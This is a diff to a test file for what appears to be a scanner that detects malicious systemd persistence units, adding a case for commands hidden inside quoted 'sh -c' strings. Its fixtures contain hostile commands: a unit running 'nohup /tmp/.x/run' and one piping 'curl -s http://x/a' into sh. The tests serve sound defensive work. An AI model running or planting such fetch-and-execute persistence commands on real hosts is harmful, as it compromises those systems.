@@ -45,6 +45,17 @@ def test_enabled_unit_running_from_tmp_is_critical_and_would_run(root):
     assert "multi-user.target" in fact["reason"]
 
 
+def test_quoted_sh_c_string_in_exec_start_is_walked(root):
+    """``sh -c 'nohup /tmp/...'``: the command word is inside the quoted -c string."""
+    pt.unit(root, "/etc/systemd/system/q.service", pt.service("/bin/sh -c 'nohup /tmp/.x/run'"))
+    pt.unit(root, "/etc/systemd/system/ok.service", pt.service("/bin/sh -c 'run-parts /etc/cron.daily'"))
+    pt.enable(root, "q.service")
+    pt.enable(root, "ok.service")
+    hits = by_id(run(root), "HG-PERS-001")
+    assert [h["subject"] for h in hits] == ["/etc/systemd/system/q.service"]
+    assert "exec_from_temp_dir" in hits[0]["evidence"]["patterns"]
+
+
 def test_disabled_malicious_unit_is_high_not_critical(root):
     pt.unit(root, "/etc/systemd/system/dormant.service", pt.service("/bin/sh -c 'curl -s http://x/a | sh'"))
     out = run(root)
